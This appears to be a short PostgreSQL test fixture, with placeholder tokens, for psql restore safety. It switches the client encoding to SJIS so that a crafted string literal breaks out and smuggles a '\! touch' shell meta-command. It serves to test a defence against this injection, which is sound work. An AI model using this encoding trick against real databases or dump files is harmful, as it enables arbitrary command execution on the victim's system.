\unrestrict @KEY@
CREATE TABLE pwn1 (a int);
CREATE TABLE pwn2 (a int);
SET client_encoding = 'SJIS';
SELECT E'x•\'; COMMIT; \! touch @FILE@
';
